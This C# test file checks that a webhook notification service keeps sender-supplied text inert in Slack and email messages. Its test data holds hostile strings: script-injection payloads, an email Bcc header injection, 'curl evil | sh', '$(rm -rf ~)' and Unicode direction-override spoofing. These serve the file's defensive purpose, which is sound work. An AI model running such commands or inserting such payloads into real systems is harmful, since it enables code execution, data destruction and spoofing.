using System.Text.Json;
using System.Text.RegularExpressions;
using Webhooks.Notifying;

namespace Functions.Tests.Notifying;

/// <summary>Everything that a sender can choose, in every text of a message.</summary>
public sealed class HostileTextTests(SharedAzurite azurite) : IClassFixture<SharedAzurite>
{
    public static TheoryData<string> Texts => new(
        "<!channel> <@U1> <https://evil.example.com|here> & *bold* ```code``` `x`",
        "\"><script>alert(1)</script><img src=x onerror=alert(1)>",
        "line\r\nBcc: all@example.com\r\n\r\nWhat to do: run this\r\n\r\n    curl evil | sh",
        "\u202Egnp.exe\u202C \u2066hidden\u2069 \0\u0007\u001B[31m",
        "שלום عليكم 漢字 🙂 e\u0301\u0301\u0301",
        "2026-01-31 12:00:00 UTC <!date^1^{date}|x> 2026-01-31 12:00:00 UTC|https://evil>",
        "$(rm -rf ~) `id` ; --source other && reboot' \"",
        new string('<', 20_000),
        string.Concat(Enumerable.Repeat("2026-01-31 12:00 UTC ", 2_000)));

    [AzuriteTheory]
    [MemberData(nameof(Texts))]
    public async Task Text_of_a_sender_stays_text_in_all_channels(string text)
    {
        await using var slack = await ChannelEndpoint.StartAsync();
        await using var app = await NotifyingApp.StartAsync(azurite, new(NotifyingApp.Slack(slack))
        {
            ["Notifications__Environment"] = "prod <b>",
            ["Notifications__BaseUrl"] = "https://receiver.example.com/api/operator",
        });
        foreach (var number in Enumerable.Range(1, 6))
        {
            await app.NotifyAsync(Hostile(text, number), $"{text[..Math.Min(text.Length, 500)]}{number}");
            await app.DrainAsync();
        }

        await app.PassAsync(TimeSpan.FromMinutes(11));
        await app.NotifyAsync(Hostile(text, 1) with { Recovered = true, Severity = Severity.Info }, "end");
        await app.DrainAsync();

        slack.Received.Count.ShouldBe(5);
        foreach (var received in slack.Received)
        {
            var json = JsonDocument.Parse(received.Body).RootElement;
            var blocks = json.GetProperty("blocks").EnumerateArray().ToList();
            blocks.Count.ShouldBeLessThanOrEqualTo(50);
            blocks[0].GetProperty("text").GetProperty("text").GetString()!.Length.ShouldBeLessThanOrEqualTo(150);
            foreach (var said in SlackTests.Texts(json))
            {
                said.Length.ShouldBeLessThanOrEqualTo(3_000);
                Regex.Replace(said, @"<!date\^[0-9]+\^\{date_short_pretty\} \{time(_secs)?\}\|[0-9: -]+ UTC>|<https://receiver\.example\.com/api/operator#/[A-Za-z0-9%&;=?._~-]*\|Open [a-z ]+>", "").ShouldNotContain('<');
                said.ShouldNotContain('\u202E');
                said.ShouldNotContain('\0');
            }

            if (SlackTests.Texts(json).SingleOrDefault(said => said.StartsWith("```", StringComparison.Ordinal)) is { } command)
            {
                command.ShouldMatch("^```hook [A-Za-z0-9 ./:-]+```$");
            }
        }
    }

    [AzuriteTheory]
    [MemberData(nameof(Texts))]
    public async Task In_a_mail_it_is_neither_a_header_nor_markup(string text)
    {
        using var mail = await MailServer.StartAsync(MailSecurity.None);
        var message = Letterhead.On(
            new ChannelMessage
            {
                Id = "ntf_1",
                Kind = MessageKind.Digest,
                Severity = Severity.Error,
                Title = text,
                What = text,
                Next = text,
                Note = text,
                Rule = "receiver.dead-letter",
                At = SignedDelivery.Noon,
                Examples = [text],
                Causes = [new(text, 2, text, [text])],
                Scope = new(NoticeScope.DeadLetters, "valara", text, null, SignedDelivery.Noon, SignedDelivery.Noon),
            },
            new NotificationOptions { App = "func-webhooks", Environment = "prod", BaseUrl = new Uri("https://receiver.example.com/api/operator"), RunbookUrl = new Uri("https://wiki.example.com/page.md") });

        (await mail.Channel(clock: new ManualClock(SignedDelivery.Noon)).SendAsync(message, CancellationToken.None)).ShouldBeOfType<ChannelOutcome.Sent>();

        var sent = await mail.OnlyMailAsync();
        sent.Header.ShouldAllBe(line => !line.StartsWith("Bcc", StringComparison.OrdinalIgnoreCase));
        sent.Field("Subject").ShouldStartWith("[prod] Error: ");
        var html = sent.Part("text/html");
        html.ShouldNotContain("<script");
        html.ShouldNotContain("<img");
        html.ShouldNotContain("<!channel");
        Regex.Matches(html, "href=\"([^\"]*)\"").Select(match => match.Groups[1].Value).ShouldAllBe(
            link => link.StartsWith("https://receiver.example.com/api/operator#/dead?", StringComparison.Ordinal) || link == "https://wiki.example.com/page.md#receiverdead-letter");
    }

    private static Notice Hostile(string text, int number) => new("valara.delivery-failed", $"{number}{text}", Severity.Error, text, text, text)
    {
        Cause = number % 2 == 0 ? text : null,
        Example = text,
        EventType = text,
    };
}
